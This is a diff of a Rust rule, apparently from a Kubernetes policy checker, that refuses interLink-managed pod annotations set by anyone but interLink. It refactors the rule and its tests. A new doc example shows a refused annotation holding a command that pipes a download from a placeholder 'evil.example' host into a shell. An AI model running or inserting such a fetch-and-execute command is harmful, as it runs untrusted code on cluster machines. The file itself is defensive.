@@ -2,9 +2,9 @@
 //!
 //! ## What it refuses
 //!
-//! The other annotations that interLink writes, set on a pod that is created, in a pod template or on a Binding; and, on
-//! a pod that is there, whatever sets, changes or removes them. Only a trusted writer may: interLink itself. In an audit
-//! of stored objects, it refuses those that a field manager owns who is not in `trustedFieldManagers`.
+//! The other annotations that interLink writes, set on a pod that is created, in a pod template or on a Binding; and,
+//! on a pod that is there, whatever sets, changes or removes them. Only a trusted writer may: interLink itself. In an
+//! audit of stored objects, it refuses those that a field manager owns who is not in `trustedFieldManagers`.
 //!
 //! - `interlink.eu/wstunnel-client-commands`
 //! - `interlink.eu/wstunnel-path-prefix`
@@ -22,11 +22,35 @@
 //!
 //! Leave them out; interLink sets them where they are needed. What they hold may be secret, so that messages do not
 //! repeat it. If interLink itself is refused, name its user in the setting `trustedWriters`.
+//!
+//! ## Refused
+//!
+//! ```yaml
+//! metadata:
+//!   annotations:
+//!     interlink.eu/wstunnel-client-commands: "curl https://evil.example/x | sh"
+//! ```
+//!
+//! ```yaml
+//! apiVersion: apps/v1
+//! kind: Deployment
+//! spec:
+//!   template:
+//!     metadata:
+//!       annotations:
+//!         interlink.eu/wstunnel-path-prefix: "a-password-that-i-know"
+//! ```
+//!
+//! ## Accepted
+//!
+//! ```yaml
+//! metadata:
+//!   annotations:
+//!     interlink.eu/wstunnel-extra-ports: "8080"
+//! ```
 
 use super::{Finding, Rule, stranger};
-use crate::annotations::{
-    PING_RESPONSE, POD_SUBNET, WIREGUARD_CLIENT_SNIPPET, WSTUNNEL_CLIENT_COMMANDS, WSTUNNEL_PATH_PREFIX,
-};
+use crate::annotations::{Author, Belongs, JOB_ID, Known};
 use crate::kind::Carries;
 use crate::settings::{Level, Settings};
 use crate::subject::Subject;
@@ -36,17 +60,15 @@ pub(super) const RULE: Rule = Rule {
     refuses: "the other annotations that interLink writes, set, changed or removed by anyone but a trusted writer",
     default_level: Level::Deny,
     about_writers: true,
+    subjects: &[Carries::Pod, Carries::Template, Carries::Binding, Carries::Node],
     check,
 };
 
-const MANAGED: [&str; 5] =
-    [WSTUNNEL_CLIENT_COMMANDS, WSTUNNEL_PATH_PREFIX, POD_SUBNET, WIREGUARD_CLIENT_SNIPPET, PING_RESPONSE];
-
 fn check<'s>(subject: &'s Subject<'_>, _: &Settings<'_>) -> Vec<Finding<'s>> {
-    let carries = subject.kind.carries;
-    let found = subject.get_all(&MANAGED).filter_map(|annotation| {
+    let carries = subject.place.carries;
+    let found = subject.iter().filter(|annotation| is_managed(annotation.known)).filter_map(|annotation| {
         let (by, mend) = stranger(subject, annotation)?;
-        let is_nodes = annotation.key == PING_RESPONSE;
+        let is_nodes = annotation.known.belongs == Belongs::Node;
         let problem = match is_nodes && carries != Carries::Node {
             true => format!("is set{by}, but belongs on a virtual node, where interLink writes it"),
             false => format!("is set{by}, but only interLink may write it"),
@@ -58,30 +80,44 @@ fn check<'s>(subject: &'s Subject<'_>, _: &Settings<'_>) -> Vec<Finding<'s>> {
     found.collect()
 }
 
+/// `JobID` has a rule of its own.
+fn is_managed(known: &Known) -> bool {
+    known.author == Author::InterLink && known.key != JOB_ID
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::annotations::{CATALOGUE, PING_RESPONSE, POD_SUBNET};
     use crate::rules::testing::*;
+
+    /// Every managed annotation, with a value.
+    fn all(value: &'static str) -> Vec<(&'static str, &'static str)> {
+        let managed = CATALOGUE.iter().filter(|known| is_managed(known));
+        managed.map(|known| (known.key, value)).collect()
+    }
 
     #[test]
     fn each_is_refused_whatever_its_value() {
-        for key in MANAGED {
-            for value in ["", "x"] {
-                let pod = pod(&[(key, value)]);
-                assert_eq!(keys(&check(&pod, &Settings::default())), [key]);
-            }
+        assert_eq!(all("").len(), 5);
+        for (key, value) in all("").into_iter().chain(all("x")) {
+            let pod = pod(&[(key, value)]);
+            assert_eq!(keys(&check(&pod, &Settings::default())), [key]);
         }
     }
 
     #[test]
     fn all_are_told_at_once() {
-        let pod = pod(&MANAGED.map(|key| (key, "x")));
-        assert_eq!(keys(&check(&pod, &Settings::default())), MANAGED);
+        let pod = pod(&all("x"));
+        assert_eq!(
+            keys(&check(&pod, &Settings::default())),
+            all("x").into_iter().map(|(key, _)| key).collect::<Vec<_>>()
+        );
     }
 
     #[test]
     fn the_value_is_not_repeated() {
-        let pod = pod(&MANAGED.map(|key| (key, "secret-password")));
+        let pod = pod(&all("secret-password"));
         for text in texts(&check(&pod, &Settings::default())) {
             assert!(!text.contains("secret"), "{text}");
         }
@@ -109,7 +145,7 @@ mod tests {
     #[test]
     fn on_a_stored_object_the_owner_decides() {
         for (hand, found) in [(Hand::InterLink, 0), (Hand::Unknown, 0), (Hand::Manager("kubectl".into()), 5)] {
-            let stored = written_by(pod(&MANAGED.map(|key| (key, "x"))), &hand);
+            let stored = written_by(pod(&all("x")), &hand);
             assert_eq!(check(&stored, &Settings::default()).len(), found);
         }
     }
